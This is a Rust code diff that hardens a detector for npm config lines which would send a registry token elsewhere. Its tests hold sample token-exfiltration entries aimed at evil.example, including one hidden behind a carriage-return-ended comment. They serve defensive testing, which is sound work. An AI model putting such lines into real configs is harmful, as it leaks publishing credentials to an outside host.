@@ -26,9 +26,9 @@ const LARGEST: u64 = 256 * 1024;
 const READERS: [&str; 4] = ["npm", "yarn", "pnpm", "bun"];
 
 /// One of [`FILES`] as it was committed.
-struct File {
-    name: &'static str,
-    text: String,
+pub(super) struct File {
+    pub(super) name: &'static str,
+    pub(super) text: String,
 }
 
 /// The variables for one step, from the sources in `root`, which no build writes.
@@ -97,7 +97,7 @@ fn read(root: &Path, dir: &str) -> (Vec<File>, bool) {
 }
 
 /// Names in `${NAME}`. One with a default (`${NAME-x}`, `${NAME:-x}`) does without.
-fn needed(text: &str) -> BTreeSet<String> {
+pub(super) fn needed(text: &str) -> BTreeSet<String> {
     let opened = text.match_indices("${").filter_map(|(at, _)| text[at + 2..].split_once('}'));
     opened.map(|(name, _)| name).filter(|name| is_name(name)).map(str::to_owned).collect()
 }
@@ -108,8 +108,10 @@ fn is_name(name: &str) -> bool {
 }
 
 /// The variables that stand for the token of a configured registry, and for nothing else.
-fn tokens(files: &[File], registries: &[Registry]) -> BTreeMap<String, String> {
-    let lines = || files.iter().flat_map(|file| file.text.lines().map(move |line| (file.name, line.trim())));
+pub(super) fn tokens(files: &[File], registries: &[Registry]) -> BTreeMap<String, String> {
+    // A carriage return alone ends a line too, as in npm's own reader (ini(1)): what follows one is no comment.
+    let lines =
+        || files.iter().flat_map(|file| file.text.split(['\n', '\r']).map(move |line| (file.name, line.trim())));
     let lines = || lines().filter(|(_, line)| !line.starts_with(['#', ';']));
     // An escape could spell a name that is not seen here, and these keys name files that were not read.
     if lines().any(|(_, line)| (line.contains('\\') && line.contains('$')) || sends_elsewhere(line)) {
@@ -219,6 +221,8 @@ mod tests {
         // ini(1)'s quoted values are JSON strings, which know escapes.
         check("registry=\"https://evil.example/${NPM\\u005fTOKEN}\"");
         check("userconfig=./other.npmrc");
+        check("# a comment\r//evil.example/:_authToken=${NPM_TOKEN}");
+        check("; a comment\ruserconfig=./other.npmrc");
         assert_eq!(given(&[(".npmrc", GOOD), (".bowerrc", "{\"registry\": \"https://evil/${NPM_TOKEN}\"}")]), "");
         for alone in [
             "//evil.example/:_authToken=${NPM_TOKEN}",
